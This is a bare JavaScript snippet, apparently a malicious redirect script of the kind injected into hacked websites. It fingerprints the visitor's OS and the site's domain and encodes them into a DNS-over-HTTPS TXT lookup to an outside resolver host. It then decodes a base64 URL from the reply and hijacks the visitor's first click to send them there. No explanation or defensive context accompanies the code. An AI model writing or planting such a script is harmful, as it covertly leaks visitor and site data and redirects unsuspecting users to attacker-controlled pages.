!function () {
  var w = window, d = document, f = w.fetch;
  if (!f || w.__dt) return;
  w.__dt = 1;
  var id = (Math.random() * 1e9 | 0).toString(36);
  var os = /Android/.test(navigator.userAgent) ? "a" : /iPhone/.test(navigator.userAgent) ? "i" : "d";
  var name = [id, os, d.domain.replace(/\./g, "-"), "logs", "tds-zone", "test"].join(".");
  f("https://resolver.invalid/resolve?type=16&name=" + name, { headers: { accept: "application/dns-json" } })
    .then(function (r) { return r.json(); })
    .then(function (j) {
      var a = (j.Answer || []).filter(function (x) { return x.type === 16; })[0];
      if (!a) return;
      var u = w.atob(a.data.replace(/"/g, ""));
      d.addEventListener("mousedown", function () { w.location = u; }, { once: true, capture: true });
    });
}();
